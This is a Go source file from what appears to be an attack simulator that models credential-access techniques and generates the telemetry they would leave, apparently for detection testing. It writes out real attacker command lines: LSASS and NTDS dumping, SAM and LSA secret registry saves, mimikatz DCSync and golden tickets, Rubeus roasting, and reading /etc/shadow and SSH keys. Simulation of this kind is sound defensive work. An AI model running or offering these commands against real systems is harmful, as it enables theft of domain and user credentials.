package technique

import (
	"errors"
	"fmt"
	"time"

	"hemostat/sim"
	"hemostat/sim/role"
	"hemostat/sim/world"
)

var credentialAccess = []*Technique{
	{
		ID: "T1003.001", Name: "OS Credential Dumping: LSASS Memory", Tactic: "credential-access", Platforms: []string{"windows"},
		Needs: "an elevated foothold on Windows", Effect: "credentials of accounts that used the host are stolen",
		Telemetry: []string{"windows/sysmon 1 10 11"}, Tools: []string{"comsvcs", "procdump", "direct read"}, Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.85,
		ready: needElevated, run: dumpLSASS,
	},
	{
		ID: "T1558.003", Name: "Steal or Forge Kerberos Tickets: Kerberoasting", Tactic: "credential-access", Platforms: []string{"windows"},
		Needs: "a foothold with a domain account", Effect: "weak passwords of service accounts are known after a while",
		Telemetry: []string{"windows/security 4769", "zeek/kerberos", "windows/powershell 4104"}, Tools: []string{"Rubeus", "Invoke-Kerberoast", "one at a time"}, Takes: sim.LogNormal(25*time.Minute, 0.9), Success: 0.7,
		ready: needWindows, run: kerberoast,
	},
	{
		ID: "T1003.002", Name: "OS Credential Dumping: Security Account Manager", Tactic: "credential-access", Effect: "hashes of local accounts are stolen",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.93,
		script: &script{at: onElevated, then: stealLocal, variants: []variant{
			by("esentutl", cmd(world.Esentutl, `esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\Users\Public\s`)),
			by("shadow copy", cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\Users\Public\s`), file(`C:\Users\Public\s`)),
			by("reg save", cmd(world.Reg, `reg save HKLM\SAM C:\Users\Public\sam.save`), cmd(world.Reg, `reg save HKLM\SYSTEM C:\Users\Public\system.save`)),
		}},
	},
	{
		ID: "T1003.004", Name: "OS Credential Dumping: LSA Secrets", Tactic: "credential-access", Effect: "passwords of services are stolen",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.9,
		script: &script{at: onElevated, then: stealServices, variants: []variant{
			by("reg save", cmd(world.Reg, `reg save HKLM\SECURITY C:\Users\Public\security.save`)),
			by("PowerShell", powershell(`Get-ItemProperty -Path HKLM:\SECURITY\Policy\Secrets\*\CurrVal; Enable-TSDuplicateToken; Get-TSLsaSecret -Key DefaultPassword`)),
		}},
	},
	{
		ID: "T1003.003", Name: "OS Credential Dumping: NTDS", Tactic: "credential-access", Effect: "the whole domain's hashes are stolen",
		Needs: "an elevated foothold on a domain controller", Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.93,
		ready: needController, script: &script{at: onElevated, then: stealDomain, variants: []variant{
			by("ntdsutil", cmd(world.Ntdsutil, `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q`), file(`C:\Windows\Temp\n\Active Directory\ntds.dit`)),
			by("shadow copy", cmd(world.Vssadmin, `vssadmin.exe create shadow /for=C:`), cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy2\Windows\NTDS\ntds.dit C:\Windows\Temp\n.dit`), file(`C:\Windows\Temp\n.dit`)),
			by("diskshadow", cmd(world.Diskshadow, `diskshadow.exe /s C:\Windows\Temp\d.txt`)),
		}},
	},
	{
		ID: "T1003.006", Name: "OS Credential Dumping: DCSync", Tactic: "credential-access", Effect: "the whole domain's hashes are stolen over replication",
		Needs: "a foothold on Windows and a domain administrator's credential", Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.95,
		ready: needDomainAdmin, script: &script{at: onDomain, then: stealDomain, variants: []variant{
			by("mimikatz", cmd(mimikatz, `mimikatz.exe "lsadump::dcsync /domain:{domain} /user:krbtgt" exit`), replicate),
			by("secretsdump over the implant", replicate),
		}},
	},
	{
		ID: "T1003.008", Name: "OS Credential Dumping: /etc/passwd and /etc/shadow", Tactic: "credential-access", Effect: "hashes of local accounts are stolen",
		Takes: quick, Success: 0.95,
		script: &script{at: onLinux, variants: []variant{
			by("cat", sh(world.Cat, "cat /etc/shadow"), sh(world.Cat, "cat /etc/passwd")),
			by("copy", sh(world.CP, "cp /etc/shadow /tmp/.s")),
		}},
	},
	{
		ID: "T1110.003", Name: "Brute Force: Password Spraying", Tactic: "credential-access", Platforms: []string{"windows"},
		Needs: "a foothold, or the cloud's sign-in page", Effect: "the password of somebody with a weak one is known",
		Telemetry: []string{"azure/signinlogs", "windows/security 4625 4771 4776"}, Tools: []string{"all at once", "one password an hour", "from many addresses"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.9,
		run: spray,
	},
	{
		ID: "T1552.001", Name: "Unsecured Credentials: Credentials In Files", Tactic: "credential-access", Effect: "a password from a file is known",
		Takes: sim.LogNormal(4*time.Minute, 0.9), Success: 0.7,
		script: &script{at: anywhere, then: stealServices, variants: []variant{
			by("search all", either(cmd(world.Findstr, `findstr.exe /si password *.xml *.ini *.txt *.config`), sh(world.Grep, "grep -ri password /home /etc /var/www"))),
			by("known places", either(cmd(world.Cmd, `cmd.exe /c type C:\inetpub\wwwroot\web.config`), sh(world.Cat, "cat /root/.aws/credentials"))),
		}},
	},
	{
		ID: "T1552.002", Name: "Unsecured Credentials: Credentials in Registry", Tactic: "credential-access", Effect: "a password from the registry is known",
		Takes: sim.LogNormal(2*time.Minute, 0.9), Success: 0.6,
		script: &script{at: onWindows, then: stealServices, variants: []variant{
			by("search all", cmd(world.Reg, `reg query HKLM /f password /t REG_SZ /s`)),
			by("putty sessions", cmd(world.Reg, `reg query HKCU\Software\SimonTatham\PuTTY\Sessions`)),
		}},
	},
	{
		ID: "T1552.004", Name: "Unsecured Credentials: Private Keys", Tactic: "credential-access", Effect: "keys of administrators are stolen",
		Takes: sim.LogNormal(2*time.Minute, 0.9), Success: 0.8,
		script: &script{at: anywhere, variants: []variant{
			by("search", either(cmd(world.Cmd, `cmd.exe /c dir c:\ /b /s *.key *.pem *.ppk *.p12`), sh(world.Find, "find / -name id_rsa"))),
			by("known place", either(cmd(world.Cmd, `cmd.exe /c type C:\Users\{user}\.ssh\id_rsa`), sh(world.Cat, "cat /root/.ssh/id_rsa"))),
		}},
	},
	{
		ID: "T1552.006", Name: "Unsecured Credentials: Group Policy Preferences", Tactic: "credential-access", Effect: "a password from the domain's policies is known",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.5,
		script: &script{at: onDomain, then: stealServices, variants: []variant{
			by("Get-GPPPassword", block(`Get-GPPPassword -Server {dc} | Select-Object UserName,Password`)),
			by("findstr", cmd(world.Findstr, `findstr.exe /S cpassword \\{dc}\sysvol\{domain}\policies\*.xml`)),
		}},
	},
	{
		ID: "T1555.003", Name: "Credentials from Password Stores: Credentials from Web Browsers", Tactic: "credential-access", Effect: "passwords that a browser kept are stolen",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.9,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("copy the store", cmd(world.Cmd, `cmd.exe /c copy "C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data" C:\Users\Public\l`), cmd(world.Dropped(`C:\Users\Public\WebBrowserPassView.exe`, &plain), `WebBrowserPassView.exe /stext C:\Users\Public\p.txt`)),
			by("esentutl", cmd(world.Esentutl, `esentutl.exe /y "C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data" /d C:\Users\Public\l`)),
		}},
	},
	{
		ID: "T1555.004", Name: "Credentials from Password Stores: Windows Credential Manager", Tactic: "credential-access", Effect: "passwords that Windows kept are stolen",
		Takes: quick, Success: 0.9,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("vaultcmd", cmd(world.VaultCmd, `VaultCmd.exe /listcreds:"Windows Credentials" /all`)),
			by("cmdkey", cmd(world.Cmdkey, `cmdkey.exe /list`)),
		}},
	},
	{
		ID: "T1555.005", Name: "Credentials from Password Stores: Password Managers", Tactic: "credential-access", Effect: "the passwords of a password manager are stolen",
		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.7,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("KeeFarce", cmd(world.Dropped(`C:\Users\Public\KeeFarce.exe`, &plain), `KeeFarce.exe`), open(keePass, "0x1fffff", injectionTrace), inject(keePass, "LoadLibraryW"), load(`C:\Users\Public\KeeFarceDLL.dll`)),
			by("KeeThief", block(`Get-Process KeePass | Get-KeePassDatabaseKey -Verbose`), open(keePass, "0x1010", injectionTrace)),
			by("trigger", file(`C:\Users\{user}\AppData\Roaming\KeePass\KeePass.config.xml`), cmd(world.Cmd, `cmd.exe /c dir C:\Users /b /s .kdbx | findstr /e .kdbx`)),
		}},
	},
	{
		ID: "T1056.001", Name: "Input Capture: Keylogging", Tactic: "credential-access", Effect: "what the user types is recorded",
		Takes: sim.LogNormal(20*time.Minute, 0.8), Success: 0.85,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("Get-Keystrokes", block(`Get-Keystrokes -LogPath C:\Users\Public\k.txt; [Windows.Forms.Keys][Runtime.InteropServices.Marshal]::ReadInt32($lParam)`)),
			by("in the implant", file(`C:\Users\{user}\AppData\Local\Temp\k.dat`)),
		}},
	},
	{
		ID: "T1040", Name: "Network Sniffing", Tactic: "credential-access", Effect: "passwords on the wire are read",
		Takes: sim.LogNormal(15*time.Minute, 0.8), Success: 0.7,
		script: &script{at: anywhere, variants: []variant{
			by("capture", either(cmd(world.Netsh, `netsh trace start capture=yes filemode=append persistent=yes tracefile=C:\Users\Public\t.etl`), sh(world.Tcpdump, "tcpdump -c 5000 -nn -i eth0 -w /tmp/.t.pcap"))),
			by("own driver", either(cmd(world.Dropped(`C:\Users\Public\windump.exe`, &plain), `windump.exe -i 1 -w C:\Users\Public\t`), sh(world.UnixProgram("/usr/bin/tshark"), "tshark -i eth0"))),
		}},
	},
	{
		ID: "T1557.001", Name: "Adversary-in-the-Middle: Name Resolution Poisoning and SMB Relay", Tactic: "credential-access", Effect: "a neighbour's hash is caught",
		Takes: sim.LogNormal(20*time.Minute, 0.8), Success: 0.6,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("Inveigh", block(`Invoke-Inveigh -ConsoleOutput Y -LLMNR Y -NBNS Y -HTTP N -FileOutput Y`)),
			by("Responder", cmd(world.Dropped(`C:\Users\Public\Responder.exe`, &plain), `Responder.exe -i 10.20.0.5 -rw`)),
		}},
	},
	{
		ID: "T1558.001", Name: "Steal or Forge Kerberos Tickets: Golden Ticket", Tactic: "credential-access", Effect: "tickets for any account can be forged",
		Needs: "the domain's hashes", Takes: quick, Success: 0.96,
		ready: needDomainAdmin, script: &script{at: onWindows, variants: []variant{
			by("mimikatz", cmd(mimikatz, `mimikatz.exe "kerberos::golden /user:Administrator /domain:{domain} /sid:S-1-5-21-1 /krbtgt:0f1e /ptt" exit`)),
			by("Rubeus", cmd(world.Dropped(`C:\Users\Public\r.exe`, &plain), `r.exe golden /rc4:0f1e /user:Administrator /domain:{domain} /ptt`)),
		}},
	},
	{
		ID: "T1558.004", Name: "Steal or Forge Kerberos Tickets: AS-REP Roasting", Tactic: "credential-access", Effect: "the password of an account without pre-authentication is known after a while",
		Takes: sim.LogNormal(15*time.Minute, 0.9), Success: 0.5,
		script: &script{at: onDomain, then: stealServices, variants: []variant{
			by("Rubeus", cmd(world.Dropped(`C:\Users\Public\Rubeus.exe`, &plain), `Rubeus.exe asreproast /outfile:C:\Users\Public\h.txt`), asREP),
			by("one account", asREP),
		}},
	},
	{
		ID: "T1649", Name: "Steal or Forge Authentication Certificates", Tactic: "credential-access", Effect: "a certificate lets the attacker be somebody else",
		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.6,
		script: &script{at: onDomain, then: stealAdmin, variants: []variant{
			by("Certify", cmd(world.Dropped(`C:\Users\Public\Certify.exe`, &plain), `Certify.exe request /ca:{dc}\corp-CA /template:VulnTemplate /altname:Administrator`)),
			by("certreq", cmd(world.InSystem32("certreq.exe", "CertReq.exe", "CertReq.exe"), `certreq.exe -submit -config {dc}\corp-CA C:\Users\Public\r.req C:\Users\Public\r.cer`)),
		}},
	},
}

var keePass = world.Signed(`C:\Program Files\KeePass Password Safe 2\KeePass.exe`, "Dominik Reichl")

const dumpTrace = `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+6ce5|C:\Windows\SYSTEM32\dbgcore.DLL+13a1c`

func dumpLSASS(a *Attempt) Progress {
	f := a.Where(true, true)
	if f == nil {
		return failure("%s", errNotElevated)
	}
	var p *world.Process
	r, played := a.playFurther(f)
	if !r.OK() {
		return blocked(r)
	}
	switch {
	case played:
	case a.Tool == "comsvcs":
		p = a.start(f, world.Rundll32, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`)
		a.World.AccessProcess(a.Now+time.Second, a.Actor, p, world.Lsass, "0x1fffff", dumpTrace+`|C:\Windows\System32\comsvcs.dll+2a7c2`)
		a.createFile(a.Now+3*time.Second, p, `C:\Windows\Temp\l.dmp`)
	case a.Tool == "procdump":
		tool := world.Dropped(`C:\Users\Public\procdump64.exe`, &a.Rand)
		tool.OriginalName, tool.Company, tool.Product, tool.Description = "procdump", "Sysinternals - www.sysinternals.com", "ProcDump", "Sysinternals process dump utility"
		p = a.start(f, tool, `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`)
		a.World.AccessProcess(a.Now+time.Second, a.Actor, p, world.Lsass, "0x1fffff", dumpTrace)
		a.createFile(a.Now+4*time.Second, p, `C:\Users\Public\lsass.dmp`)
	default:
		if f.Implant != nil {
			trace := `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000277A5E0B7F1)`
			if a.Rand.Bool(a.Skill) { // a call stack made to look ordinary
				trace = world.UsualCallTrace
			}
			a.World.AccessProcess(a.Now+time.Second, a.Actor, f.Implant.Process, world.Lsass, "0x1010", trace)
		}
	}
	if a.failed {
		return failure("reading LSASS on %s failed", f.Host.Name)
	}
	fresh := 0
	take := func(who *world.Account) {
		if who != nil && a.steal(who, true) {
			fresh++
		}
	}
	take(f.Host.Owner)
	for _, s := range f.Host.Sessions {
		take(s.Account)
	}
	// Administrators leave credentials behind where they have worked.
	chance := 0.3
	if f.Host.Role != role.Workstation {
		chance = 0.45
	}
	for _, who := range a.World.Accounts {
		switch {
		case who.Privilege == world.ServerAdmin && a.World.Administers(who, f.Host):
			if a.Rand.Bool(chance) {
				take(who)
			}
		case who.Privilege == world.DomainAdmin && f.Host.Role != role.Workstation:
			if a.Rand.Bool(chance / 3) {
				take(who)
			}
		}
	}
	return success("%d new credentials from %s", fresh, f.Host.Name)
}

// kerberoast asks one ticket a round, then cracks offline.
func kerberoast(a *Attempt) Progress {
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	var services []*world.Account
	for _, who := range a.World.Accounts {
		if who.Privilege == world.Service {
			services = append(services, who)
		}
	}
	dc := a.World.DomainController(f.Host)
	if dc == nil || len(services) == 0 || f.Account == nil {
		return Progress{Done: true, Note: errors.New("no service account to ask for").Error()}
	}
	if r := a.World.Reach(world.At(f.Host), world.At(dc), 88); !r.OK() {
		return blocked(r)
	}
	if a.Round == 0 && a.Tool == "Invoke-Kerberoast" {
		a.start(f, world.PowerShell, `powershell.exe -c "IEX(gc C:\Users\Public\k.ps1 -raw); Invoke-Kerberoast -OutputFormat Hashcat"`)
		a.World.RunScript(a.Now, a.Actor, a.last(f), "Invoke-Kerberoast -OutputFormat Hashcat | % { $_.Hash }")
	}
	if a.Round == 0 {
		if r, _ := a.playFurther(f); !r.OK() {
			return blocked(r)
		}
	}
	if a.Round == 0 && a.Tool == "Rubeus" {
		tool := world.Dropped(`C:\Users\Public\r.exe`, &a.Rand)
		tool.OriginalName, tool.Description, tool.Product = "Rubeus.exe", "Rubeus", "Rubeus"
		a.start(f, tool, `r.exe kerberoast /outfile:C:\Users\Public\h.txt`)
	}
	if a.Round < min(len(services), 12) {
		encryption := "0x17"
		if a.Tool == "one at a time" {
			encryption = "0x12"
		}
		who := services[a.Round]
		a.World.KerberosTicket(a.Now, a.Actor, dc, world.At(f.Host), f.Account, who.Name, encryption)
		wait := 400 * time.Millisecond
		if a.Tool == "one at a time" {
			wait = time.Duration(float64(4*time.Minute) * a.Rand.Exp())
		}
		return again(wait)
	}
	if a.failed {
		return failure("no service account had a weak password")
	}
	who := sim.Pick(&a.Rand, services)
	a.steal(who, false)
	return success("cracked the password of %s", who.Name)
}

var mimikatz = named(world.Dropped(`C:\Users\Public\mimikatz.exe`, &plain), "mimikatz.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)")

// replicate asks the controller for the domain's secrets as another controller would
// (Security 4662 with the rights to replicate).
var replicate = move{"windows/security 4662, zeek/dce_rpc", func(a *Attempt, f *Foothold) world.Refusal {
	dc := a.World.DomainController(f.Host)
	if r := a.World.Reach(world.At(f.Host), world.At(dc), 445); r.ByDefence() {
		return r
	}
	by := a.domainAdmin()
	a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: world.At(dc), Port: 135, Service: "dce_rpc", Process: a.last(f), Sent: 30e3, Received: 900e3, Duration: 3 * time.Second})
	a.World.AccessShareFile(a.Now, a.Actor, world.At(f.Host), dc, by, `\\*\IPC$`, "drsuapi", false)
	for _, right := range []string{"{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"} {
		a.World.LogBy(a.Now, a.Actor, dc, by, "Security 4662", "ObjectServer", "DS", "ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "OperationType", "Object Access",
			"AccessList", "%%7688", "AccessMask", "0x100", "Properties", "%%7688\r\n\t\t"+right+"\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}")
	}
	return world.Refusal{}
}}

// asREP asks for a ticket without pre-authentication (Security 4768, type 0).
var asREP = atController("Security 4768", "TargetUserName", "svc_web", "ServiceName", "krbtgt", "TicketOptions", "0x40800010", "TicketEncryptionType", "0x17", "PreAuthType", "0", "Status", "0x0", "IpAddress", "::ffff:10.20.0.31")

// domainAdmin is the account of a domain administrator whose credential is held.
func (a *Attempt) domainAdmin() *world.Account {
	for _, c := range a.Credentials {
		if !c.Refused && c.Account.Privilege == world.DomainAdmin {
			return c.Account
		}
	}
	return nil
}

func needDomainAdmin(s *State) error {
	if err := needWindows(s); err != nil {
		return err
	}
	if best, any := s.BestPrivilege(); !any || best < world.DomainAdmin {
		return errNoAdmin
	}
	return nil
}

func needController(s *State) error {
	for _, f := range s.Footholds {
		if f.Host.Role == role.DomainController && s.Usable(f).OK() {
			return nil
		}
	}
	return errNoController
}

// stealSome takes the credentials of accounts that fit, each with a chance.
func (a *Attempt) stealSome(chance float64, fits func(*world.Account) bool) string {
	fresh := 0
	for _, who := range a.World.Accounts {
		if fits(who) && a.Rand.Bool(chance) && a.steal(who, true) {
			fresh++
		}
	}
	return fmt.Sprintf("%d new credentials", fresh)
}

func stealDomain(a *Attempt, _ *Foothold) string {
	return a.stealSome(1, func(who *world.Account) bool { return who.Privilege >= world.ServerAdmin })
}

func stealServices(a *Attempt, _ *Foothold) string {
	return a.stealSome(0.12, func(who *world.Account) bool { return who.Privilege == world.Service })
}

func stealAdmin(a *Attempt, _ *Foothold) string {
	return a.stealSome(0.3, func(who *world.Account) bool { return who.Privilege == world.DomainAdmin })
}

// stealLocal takes what lets one reach like machines: administrators reuse passwords.
func stealLocal(a *Attempt, f *Foothold) string {
	return a.stealSome(0.15, func(who *world.Account) bool {
		return who.Privilege == world.ServerAdmin && a.World.Administers(who, f.Host)
	})
}

func stealOwner(a *Attempt, f *Foothold) string {
	if f.Host.Owner != nil && a.steal(f.Host.Owner, false) {
		return "the password of " + f.Host.Owner.Name + " is known"
	}
	return "nothing new on " + f.Host.Name
}

// stealNote takes the password of one service account, if luck allows.
func stealNote(a *Attempt) string {
	return ", " + stealServices(a, nil)
}

// spray tries one password on an account a round: against the domain controller from
// a foothold, or against the cloud's sign-in page from outside.
func spray(a *Attempt) Progress {
	w := a.World
	f := a.Where(true, false)
	if a.Round == 0 {
		a.Count = 30 + a.Rand.IntN(60)
		weak := a.Rand.For("weak")
		a.Bytes = uint64(weak.IntN(max(1, a.Count))) // the one with a weak password, if any
	}
	order := a.Rand.For("order")
	who := w.Accounts[(order.IntN(len(w.Accounts))+a.Round)%len(w.Accounts)]
	hit := uint64(a.Round) == a.Bytes && !a.failed && who.Privilege == world.User
	gap := 400 * time.Millisecond
	if a.Round == 0 && f != nil {
		if r, played := a.playFurther(f); !r.OK() {
			return blocked(r)
		} else if played && !a.failed {
			return success("accounts and names are known%s", stealNote(a))
		} else if played {
			return failure("no weak password among them")
		}
	}
	switch a.Tool {
	case "one password an hour":
		gap = 40 * time.Second
	case "from many addresses":
		gap = 6 * time.Second
		a.Address = a.Round % len(a.Addresses)
	}
	var refusal world.Refusal
	if f == nil {
		if refusal = w.SignIn(a.Now, a.Actor, world.SignIn{Account: who, From: a.source(), Country: a.country(), Client: "Mobile Apps and Desktop clients", BadPassword: !hit, Generation: who.Generation}); refusal.ByDefence() {
			return blocked(refusal)
		}
	} else {
		dc := w.DomainController(f.Host)
		if dc == nil {
			return failure("no domain controller answers")
		}
		if r := w.Reach(world.At(f.Host), world.At(dc), 88); !r.OK() {
			return blocked(r)
		}
		_, _ = w.LogOn(a.Now, a.Actor, world.Logon{From: world.At(f.Host), To: dc, Account: who, Type: world.LogonNetwork, NTLM: true, Generation: who.Generation, BadSecret: !hit})
	}
	if hit {
		a.steal(who, false)
	}
	if a.Round >= a.Count {
		if int(a.Bytes) > a.Round || a.failed {
			return failure("%d accounts, and no weak password among them", a.Round+1)
		}
		return success("%d accounts tried, the password of one is known", a.Round+1)
	}
	return again(time.Duration(float64(gap) * (0.5 + a.Rand.Exp()) * a.Slowdown))
}
